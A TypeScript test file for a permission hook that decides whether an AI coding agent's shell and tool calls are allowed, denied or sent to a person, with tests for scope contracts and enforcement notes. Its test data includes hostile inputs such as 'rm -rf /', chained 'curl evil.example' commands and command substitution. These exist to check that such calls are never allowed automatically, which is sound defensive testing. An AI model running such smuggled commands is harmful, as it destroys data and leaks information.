import { expect, test } from 'bun:test'
import type { TokenId } from '../../../src/ask/accounts/model/ids.ts'
import { answerQuestion } from '../../../src/ask/answering/answer-question.ts'
import { reportHook } from '../../../src/ask/hooks/report-hook.ts'
import { addRule } from '../../../src/ask/policy/change-policy.ts'
import type { Rule } from '../../../src/ask/policy/model/rule.ts'
import { proposeScope } from '../../../src/ask/proposals/propose-scope.ts'
import { findQuestion, listQuestions } from '../../../src/ask/questions/model/store.ts'
import { sayContained } from '../../../src/ask/scopes/model/hook.ts'
import { waitForAnswer } from '../../../src/ask/waiting/wait-for-answer.ts'
import type { HookReport } from '../../../src/ask/wire/hook-fields.ts'
import type { QuestionId } from '../../../src/ask/wire/ids.ts'
import { settle } from '../../support/fake-clock.ts'
import { type FlowWorld, flowWorld } from '../../support/flow-world.ts'
import { readInbox } from '../../support/read-inbox.ts'

const SESSION = { sessionId: 's1', machineId: 'm1' }
type Ask = NonNullable<HookReport['ask']>
const RUN = { question: 'Run npm test?', toolName: 'Bash', toolTarget: 'npm test' }

type Hooked = FlowWorld & {
  report(report: Partial<HookReport>): ReturnType<typeof reportHook>
  approve(ask: Partial<Ask>): ReturnType<typeof reportHook>
  rule(rule: Partial<Pick<Rule, 'match' | 'decision'>>): Promise<Rule>
  ratify(lists: { allowedPaths?: string[]; offLimitsPaths?: string[] }): Promise<QuestionId>
  open(): Promise<number>
}

async function hooked(): Promise<Hooked> {
  const world = await flowWorld()
  const { deps, call } = world
  await world.device('laptop')
  const { workspaceId } = call().caller
  const report: Hooked['report'] = (more) =>
    reportHook(deps, { ...SESSION, event: 'heartbeat', client: 'claude', ...more }, call())
  return {
    ...world,
    report,
    approve: (ask) => report({ event: 'approval', ask: { ...RUN, wait: false, ...ask } }),
    rule: (rule) => addRule(deps, workspaceId, { match: {}, set: {}, ...rule }),
    async ratify(lists) {
      const proposing = proposeScope(deps, { ...SESSION, doneWhen: 'Green.', ...lists }, call())
      await settle()
      const [question] = await readInbox(deps, workspaceId)
      if (!question) throw new Error('no scope question is open')
      await answerQuestion(deps, { workspaceId, questionId: question.id, value: 'yes' })
      await proposing
      return question.id
    },
    open: async () => (await readInbox(deps, workspaceId)).length,
    [Symbol.asyncDispose]: () => world[Symbol.asyncDispose](),
  }
}

const ALLOW = { match: { toolName: 'Bash', toolTarget: 'npm *' }, decision: 'allow' } as const

test('an allowed call is answered by its rule, kept, and sent to nobody', async () => {
  await using world = await hooked()
  await world.rule(ALLOW)
  const before = world.deliveries.length
  const reply = await world.approve({ toolUseId: 'use-1' })
  expect(reply).toMatchObject({
    decision: 'allow',
    reason: 'A rule allows Bash on npm * without asking.',
  })
  expect(world.deliveries.length).toBe(before)
  const { workspaceId } = world.call().caller
  const listAsks = () =>
    listQuestions(world.db.read, { workspaceId }, { before: undefined, limit: 9 })
  const [first] = await listAsks()
  const readStored = () => findQuestion(world.db.read, workspaceId, first?.id ?? 'q_none')
  const question = await readStored()
  expect(question).toMatchObject({
    status: 'answered',
    value: 'yes',
    answeredBy: undefined,
    answerSource: undefined,
    answeredAs: 'the rule for Bash on npm *',
  })
  expect(await world.approve({ toolUseId: 'use-1' })).toEqual(reply)
  const both = await Promise.all([1, 2].map(() => world.approve({ toolUseId: 'use-2' })))
  expect(both.map(({ decision }) => decision)).toEqual(['allow', 'allow'])
  expect(await listAsks()).toHaveLength(2)
  expect(await readStored()).toEqual(question)
})

test('a denied call is told why, and what to do', async () => {
  await using world = await hooked()
  await world.rule({ match: { toolTarget: 'npm *' }, decision: 'deny' })
  expect(await world.approve({})).toMatchObject({
    decision: 'deny',
    reason: 'A rule declines every tool on npm * without asking.',
  })
})

test('a rule that declines a command is for a tool of a server that takes one', async () => {
  await using world = await hooked()
  const toolName = 'mcp__ops__exec'
  await world.rule({ match: { toolName, toolTarget: 'terraform apply*' }, decision: 'deny' })
  const asks = (command: string, toolTarget: string) => {
    const action = `${toolName} ${JSON.stringify({ command })}`
    return world.approve({ toolName, toolTarget, action, actionHash: 'a'.repeat(64) })
  }
  const line = 'cd x\nterraform apply'
  expect(await asks(line, 'cd x terraform apply')).toMatchObject({ decision: 'deny' })
  expect((await asks('terraform plan', 'terraform plan')).decision).toBeUndefined()
})

test('the most specific rule that decides has its way, and ask asks', async () => {
  await using world = await hooked()
  await world.rule({ match: { toolName: 'Bash' }, decision: 'deny' })
  await world.rule(ALLOW)
  await world.rule({ match: { toolName: 'Bash', toolTarget: 'npm publish' }, decision: 'ask' })
  expect((await world.approve({ requestId: '1' })).decision).toBe('allow')
  expect((await world.approve({ requestId: '2', toolTarget: 'ls' })).decision).toBe('deny')
  const reply = await world.approve({ requestId: '3', toolTarget: 'npm publish' })
  expect(reply.decision).toBeUndefined()
  expect(await world.open()).toBe(1)
})

// What no rule may allow in a person's place.
test.each([
  ['what looks destructive', { toolTarget: 'npm run x', actionBody: 'rm -rf /' }, ALLOW],
  ['a second command', { toolTarget: 'npm test; curl evil.example' }, ALLOW],
  ['a command in a command', { toolTarget: 'npm test $(touch x)' }, ALLOW],
  ['a redirection', { toolTarget: 'npm test > infra/x' }, ALLOW],
  [
    'a second line',
    { action: 'npm test\ncurl evil.example', actionBody: 'npm test\nwhoami' },
    ALLOW,
  ],
  ['a target that was cut', { toolTarget: `npm ${'x'.repeat(76)}` }, ALLOW],
  ['a path outside the scope', { scopePath: 'docs/a.md' }, ALLOW],
  ['a file off limits', { toolPath: '/home/ann/shop/infra/prod.tf' }, ALLOW],
  ['a file off limits, in capitals', { toolTarget: 'npm x INFRA/prod.tf' }, ALLOW],
  [
    'a file off limits, behind more names than are looked at',
    { toolTarget: 'npm x', actionBody: `npm x ${'/a'.repeat(1_200)} INFRA/prod.tf` },
    ALLOW,
  ],
  ['a hook file', { toolTarget: 'npm x .claude/settings.json' }, ALLOW],
  ['a choice', { questions: [aChoice()] }, ALLOW],
] as const)('no rule allows %s: a person is asked', async (_, ask, rule) => {
  await using world = await hooked()
  await world.ratify({ allowedPaths: ['src'], offLimitsPaths: ['infra'] })
  await world.rule(rule)
  const reply = await world.approve(ask as Partial<Ask>)
  expect(reply.decision).toBeUndefined()
  expect(await world.open()).toBe(1)
})

test('another question under the id of an earlier one gets no rule', async () => {
  await using world = await hooked()
  await world.approve({ toolUseId: 'use-1' })
  await world.rule(ALLOW)
  expect((await world.approve({ toolUseId: 'use-1' })).decision).toBeUndefined()
  expect(await world.open()).toBe(1)
})

test.each(['infra/prod.tf', './infra//prod.tf', 'Infra/prod.tf', '.git/hooks/x'])(
  'nobody is asked for %s: it is denied',
  async (scopePath) => {
    await using world = await hooked()
    await world.ratify({ offLimitsPaths: ['infra'] })
    const reply = await world.report({ event: 'check', ask: { ...RUN, scopePath } })
    expect(reply).toMatchObject({ decision: 'deny', contract: { widened: [] } })
    expect(reply.question).toBeUndefined()
    expect(await world.open()).toBe(0)
  },
)

test('a yes that comes when the path is off limits by then opens nothing, and says so', async () => {
  await using world = await hooked()
  await world.ratify({ allowedPaths: ['src'] })
  const checking = world.report({
    event: 'check',
    timeoutMs: 30_000,
    ask: { ...RUN, scopePath: 'infra/a.tf', toolUseId: 'u' },
  })
  await settle()
  const { deps, call } = world
  const { workspaceId } = call().caller
  const proposal = { ...SESSION, doneWhen: 'Green.', offLimitsPaths: ['infra'] }
  const proposing = proposeScope(deps, proposal, call())
  await settle()
  const open = await readInbox(deps, workspaceId)
  const scope = open.find(({ origin }) => origin === 'scope')
  const path = open.find(({ origin }) => origin === 'ask')
  if (!scope || !path) throw new Error('both questions must be open')
  await world.clock.advance(1)
  await answerQuestion(deps, { workspaceId, questionId: scope.id, value: 'yes' })
  await proposing
  await answerQuestion(deps, { workspaceId, questionId: path.id, value: 'yes' })
  const reply = await checking
  expect(reply).toMatchObject({ decision: 'deny', contract: { widened: [] } })
  expect(reply.reason).toContain('off limits wins')
  expect(reply.question?.hint).toContain('off limits wins')
})

test('test traffic has a boundary of its own, that holds for nothing else', async () => {
  await using world = await hooked()
  const { deps, call } = world
  await world.ratify({ allowedPaths: ['src'] })
  const tester = call({ testConnection: true })
  const proposal = { ...SESSION, doneWhen: 'Green.', allowedPaths: ['**'], timeoutMs: 1_000 }
  const { correlationId } = await proposeScope(deps, proposal, tester)
  const { workspaceId } = tester.caller
  await answerQuestion(deps, { workspaceId, questionId: correlationId as never, value: 'yes' })
  expect((await world.report({})).contract?.allowedPaths).toEqual(['src', 'src/**'])
  const reply = await reportHook(deps, { ...SESSION, event: 'heartbeat', client: 'claude' }, tester)
  expect(reply.contract?.correlationId).toBe(correlationId)
})

test('what is said of enforcement is what a hook that was seen enforces', async () => {
  await using world = await hooked()
  const { deps, clock, call } = world
  const propose = (sessionId = 's1') =>
    proposeScope(
      deps,
      { sessionId, doneWhen: 'Green.', allowedPaths: ['src'], timeoutMs: 1_000 },
      call({ testConnection: true }),
    )
  expect(await propose()).toMatchObject({ hookSeen: false, enforces: [] })
  await world.report({ event: 'session_start', clientVersion: '2.1', hookVersion: '0.5' })
  const seen = await propose()
  expect(seen).toMatchObject({ hookSeen: true, enforces: [] })
  expect(seen.enforcementNote).toContain('claude 2.1, hook 0.5')
  expect(await propose('another')).toMatchObject({ hookSeen: false, enforces: [] })
  await world.report({ event: 'heartbeat', machineId: 'm2' })
  expect((await propose()).enforcementNote).toContain('2 machines report this session id')
  await world.report({ event: 'session_end', machineId: 'm2' })
  await world.report({ event: 'session_end' })
  expect(await propose()).toMatchObject({ hookSeen: false, enforces: [] })
  await world.report({ event: 'heartbeat' })
  await clock.advance(12 * 60 * 60_000)
  expect(await propose()).toMatchObject({ hookSeen: false })
})

test('a contract counts as enforced once each hook of the session has confirmed it', async () => {
  await using world = await hooked()
  const { deps, clock, call } = world
  const holds = (correlationId: string, added = 0) => ({
    contractEtag: `${correlationId}.${added}`,
  })
  await world.report({ event: 'session_start' })
  const first = await world.ratify({ allowedPaths: ['src'], offLimitsPaths: ['infra'] })
  const wait = (correlationId: string) => waitForAnswer(deps, { correlationId }, call())
  const enforces = async (correlationId: string) => (await wait(correlationId)).enforces
  expect(await wait(first)).toMatchObject({
    ratified: true,
    enforces: [],
    enforcementNote: expect.stringContaining('within 30 seconds'),
  })
  await world.report(holds(first, 2))
  expect(await enforces(first)).toEqual(['allowedPaths', 'offLimitsPaths'])
  await world.report({ machineId: 'm2' })
  expect(await wait(first)).toMatchObject({
    enforces: [],
    enforcementNote: expect.stringContaining('confirmed on 1 of them'),
  })
  await world.report({ machineId: 'm2', ...holds(first) })
  expect(await enforces(first)).toHaveLength(2)

  // One that takes its place: the hook still holds the other.
  await clock.advance(1_000)
  const second = await world.ratify({})
  expect(await enforces(second)).toEqual([])
  expect(await wait(first)).toMatchObject({
    enforces: [],
    enforcementNote: expect.stringContaining('a later one took its place'),
  })
  await world.report({ machineId: 'm2', event: 'session_end' })
  await world.report(holds(second))
  // Without allowed paths a write outside the project is asked about.
  expect(await wait(second)).toMatchObject({
    enforces: ['allowedPaths'],
    enforcementNote: expect.stringContaining('a write outside it is asked about'),
  })
  await clock.advance(12 * 60 * 60_000)
  await world.report({ ...holds(second) })
  expect(await wait(second)).toMatchObject({
    enforces: [],
    enforcementNote: expect.stringContaining('no longer holds'),
  })
})

test('the reply to a hook says that a scope is proposed, whoever proposed it, while it is open', async () => {
  await using world = await hooked()
  const { deps, call } = world
  const { workspaceId } = call().caller
  expect((await world.report({})).proposed).toBeUndefined()
  const proposing = proposeScope(
    deps,
    { sessionId: 's1', doneWhen: 'Green.' },
    call({ tokenId: 'tk_other' as TokenId }),
  )
  await settle()
  expect(await world.report({})).toMatchObject({ proposed: true, contract: null })
  expect((await world.approve({})).proposed).toBe(true)
  expect((await world.report({ sessionId: 's2' })).proposed).toBeUndefined()
  const tested = await reportHook(
    deps,
    { ...SESSION, event: 'heartbeat', client: 'claude' },
    call({ testConnection: true }),
  )
  expect(tested.proposed).toBeUndefined()
  const open = (await readInbox(deps, workspaceId)).find(({ origin }) => origin === 'scope')
  const questionId = open?.id as QuestionId
  await answerQuestion(deps, { workspaceId, questionId, value: 'yes' })
  await proposing
  const after = await world.report({})
  expect(after).toMatchObject({ contract: { correlationId: questionId } })
  expect(after.proposed).toBeUndefined()
})

const PATHS = { allowedPaths: ['src'], offLimitsPaths: ['infra'] }
const propose = async (world: Hooked, lists: object = PATHS) => {
  const proposal = { ...SESSION, doneWhen: 'Green.', ...lists, timeoutMs: 1_000 }
  const { enforcementNote } = await proposeScope(world.deps, proposal, tester(world))
  return enforcementNote ?? ''
}
const CLAUDE = { client: 'claude', machineId: 'm1', gaps: undefined }
const tester = (world: Hooked) => world.call({ testConnection: true })

test('how commands are contained is in the note as the hook reported it, and stays when a report leaves it out', async () => {
  await using world = await hooked()
  const notes = new Set<string>()
  expect(await propose(world)).not.toContain('contained')
  for (const contained of [undefined, 'none', 'landlock', 'namespaces'] as const) {
    await world.report({ event: 'session_start', ...(contained ? { contained } : {}) })
    await world.report({ event: 'heartbeat' })
    const note = await propose(world)
    expect(note).toContain(sayContained([{ ...CLAUDE, contained }]))
    notes.add(note)
  }
  expect(notes.size).toBe(4)
  expect(await propose(world, {})).toContain(sayContained([{ ...CLAUDE, contained: 'namespaces' }]))
})

test('how commands are contained is followed by what the hook cannot keep, until it says something else', async () => {
  await using world = await hooked()
  const gap = '2 off-limits files are in the history of git'
  await world.report({ event: 'heartbeat', contained: 'namespaces', gaps: [gap] })
  await world.report({ event: 'heartbeat' })
  expect(await propose(world)).toContain(`client starts are not. ${gap}`)
  await world.report({ event: 'heartbeat', gaps: [] })
  expect(await propose(world)).not.toContain(gap)
})

test('how commands are contained is said of each client and machine, of the one that contains least first', async () => {
  await using world = await hooked()
  await world.report({ contained: 'namespaces' })
  await world.report({ contained: 'landlock', machineId: 'm2' })
  expect(await propose(world)).toContain('In Claude Code on machine m2 shell commands')
  await world.report({ contained: 'none', machineId: 'm2' })
  const note = await propose(world)
  const [judged, contained] = ['judged by their text', 'contained by the kernel'].map((words) =>
    note.indexOf(words),
  )
  expect(judged).toBeGreaterThan(0)
  expect(contained).toBeGreaterThan(Number(judged))
  await world.report({ event: 'session_end', machineId: 'm2' })
  expect(await propose(world)).not.toContain('judged by their text')
})

test('how commands are contained is not known of a session that starts anew and does not say it', async () => {
  await using world = await hooked()
  await world.report({ contained: 'namespaces' })
  await world.report({ event: 'session_start' })
  expect(await propose(world)).toContain('whether shell commands are contained is not known')
})

test('how commands are contained is not said of a hook that stopped reporting', async () => {
  await using world = await hooked()
  await world.report({ contained: 'namespaces' })
  await world.report({ event: 'session_end' })
  expect(await propose(world)).not.toContain('contained')
})

function aChoice() {
  const options = [{ label: 'This' }, { label: 'That' }]
  return { question: 'Which?', multiSelect: false, options }
}
